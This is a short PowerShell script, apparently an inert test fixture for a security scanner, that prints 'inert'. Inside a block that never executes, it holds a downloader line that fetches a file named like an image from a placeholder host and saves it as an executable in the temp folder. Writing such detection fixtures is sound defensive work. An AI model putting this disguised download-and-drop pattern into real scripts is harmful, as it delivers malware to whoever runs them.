# INERT SEKISHO TEST
param([string]$name)
if ($false) {
(New-Object Net.WebClient).DownloadFile('http://example.invalid/images/table.png', "$env:temp\inert.exe")
}
Write-Host "inert"
